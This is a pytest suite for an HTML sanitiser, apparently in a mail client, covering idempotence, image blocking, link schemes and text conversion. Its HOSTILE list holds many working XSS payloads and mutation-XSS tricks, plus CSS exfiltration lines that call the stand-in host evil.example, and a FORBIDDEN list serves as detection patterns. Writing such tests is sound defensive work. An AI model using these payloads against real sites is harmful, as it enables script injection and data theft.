"""HTML from outside: what stays, what goes, and that it stays gone when the result is read again."""

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kernel.html import html_from_text, sanitise, text_from_html

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" vbscript:x">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a>',
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<math><mi xlink:href="data:x,<script>alert(1)</script>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<style>@import url(https://evil.example/a.css); input[value^=a]{background:url(//evil.example/a)}</style>",
    '<p style="background:url(https://evil.example/p);position:fixed">x</p>',
    '<form action="https://evil.example"><input name=password><button formaction="javascript:x">go</button></form>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example">',
    '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example">',
    '<link rel=stylesheet href="https://evil.example/x.css">',
    '<img srcset="https://evil.example/1 1x, https://evil.example/2 2x">',
    '<picture><source srcset="https://evil.example/s"><img src="https://evil.example/i"></picture>',
    '<table background="https://evil.example/b"><tr><td background=//evil.example/c>x</td></tr></table>',
    '<video src="https://evil.example/v" poster="https://evil.example/p"></video><audio src=//evil.example/a>',
    '<p id="composer" class="toolbar" name="x" onclick="x()">x</p>',
    "<!--[if gte mso 9]><img src=https://evil.example/m><![endif]-->",
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "<a href='https://ok.example' target=_top onfocus=alert(1) autofocus>x</a>",
    "<template><script>alert(1)</script></template>",
    "<textarea><script>alert(1)</script></textarea><xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<x onclick=alert(1)>y</x><custom-element></custom-element>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\x00<scr\x00ipt>alert(1)</script>",
    '<a href="cid:x" ping="https://evil.example">x</a>',
]
FORBIDDEN = [
    "<script",
    "onerror",
    "onload",
    "onclick",
    "onfocus",
    "javascript:",
    "vbscript:",
    "data:",
    "evil.example",
    "<style",
    "style=",
    "<form",
]
FORBIDDEN += ["<input", "<button", "<iframe", "<object", "<embed", "<base", "<meta", "<link", " id=", " class=", "<svg", "<math", "srcset"]


@pytest.mark.parametrize("html", HOSTILE)
def test_hostile_html_keeps_nothing_that_acts(html):
    safe = sanitise(html).html

    # Text may name these things; markup may not.
    markup = "".join(part.split(">")[0] for part in safe.lower().split("<")[1:])
    assert not [word for word in FORBIDDEN if word.lstrip("<") in markup and (word[0] != "<" or word in safe.lower())]
    assert sanitise(safe).html == safe


def test_planted_hole_would_be_found():
    """The check above can fail: an attribute that slipped through is seen."""
    leaky = '<p style="color:red">x</p>'

    assert any(word in leaky for word in FORBIDDEN)


def test_remote_images_are_blocked_and_counted_by_address():
    html = (
        '<img src="https://a.example/1"><img src="//a.example/2"><img src=x srcset="https://a.example/3 2x">'
        '<table background="http://a.example/4"></table><p style="background-image: url(\'https://a.example/5\')">'
        '<style>p { background: url("https://a.example/6") }</style><picture><source srcset="https://a.example/7"></picture>'
        '<img src="https://a.example/1">'
    )

    safe = sanitise(html)

    assert safe.blocked_images == 7
    assert "a.example" not in safe.html


def test_content_ids_become_the_given_urls_and_only_those():
    images = {"logo@mail": "/files/1/2/abc/"}

    safe = sanitise(
        '<img src="cid:logo@mail" alt="Logo"><img src="CID:logo%40mail"><img src="cid:other"><img src="/files/9/">', images=images
    )

    assert safe.html == '<img src="/files/1/2/abc/" alt="Logo"><img src="/files/1/2/abc/"><img src="cid:other"><img>'
    assert sanitise(safe.html, images=images).html == safe.html
    assert safe.blocked_images == 0


def test_links_carry_rel_and_keep_only_safe_schemes():
    safe = sanitise(
        '<a href="https://x.example/?a=1&amp;b=2" rel=opener>a</a><a href="mailto:a@b.example">b</a><a href="tel:+1">c</a>'
    ).html

    rel = 'rel="noopener noreferrer nofollow"'
    assert safe == (
        f'<a href="https://x.example/?a=1&amp;b=2" {rel}>a</a><a href="mailto:a@b.example" {rel}>b</a><a href="tel:+1" {rel}>c</a>'
    )


@pytest.mark.parametrize(
    "html",
    [
        "<div>" * 100_000,
        "<svg>" + "<td>" * 100_000,
        "<table><tr><td></div>" * 20_000,
        "<a " + " ".join(f"x{number}=1" for number in range(50_000)) + ">",
        "&" * 500_000,
        "<" * 300_000,
        "<!--" * 100_000,
        "<p><b>" * 50_000,
        "x" * 2_000_000,
    ],
    ids=["deep", "foreign", "scope", "attributes", "ampersands", "angles", "comments", "unclosed", "long"],
)
def test_costly_html_is_shown_as_text_in_bounded_time(html):
    started = time.process_time()

    safe = sanitise(html).html

    assert time.process_time() - started < 5
    assert sanitise(safe).html == safe


def test_a_link_around_a_table_settles_before_it_is_shown():
    once = sanitise("<a href=x><table><a href='https://ok.example'>x</a>").html

    assert sanitise(once).html == once
    assert "x</a>" in once


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.sampled_from([*HOSTILE, "<b>", "</b>", "<p>", "</div>", "<table>", "<tr>", "x", "&amp;", "<a href=x>", "<![CDATA["]), max_size=8
    )
)
def test_sanitising_twice_changes_nothing(parts):
    once = sanitise("".join(parts)).html

    assert sanitise(once).html == once


@settings(max_examples=200, deadline=None)
@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc"], include_characters="\n\t"), max_size=300))
def test_text_survives_the_way_through_html(text):
    html = html_from_text(text)

    assert sanitise(html).html == html
    assert "".join(text_from_html(html).split()) == "".join(text.split())


def test_text_from_html_keeps_structure():
    html = (
        "<html><head><title>t</title><style>p{}</style></head><body><p>Hello&nbsp; <b>you</b></p><ul><li>one<li>two</ul>"
        '<blockquote>old<br>lines</blockquote><a href="https://x.example/a">site</a> <a href="https://x.example">x.example</a></body></html>'
    )

    assert text_from_html(html) == "Hello you\n\n- one\n- two\n> old\n> lines\nsite (https://x.example/a) x.example"


def test_html_from_text_links_addresses_without_their_punctuation():
    assert html_from_text("see https://x.example/a?b=1&c=2).\nbye\n\nnext <b>") == (
        '<p>see <a href="https://x.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow">https://x.example/a?b=1&amp;c=2</a>).<br>bye</p>'
        "<p>next &lt;b&gt;</p>"
    )
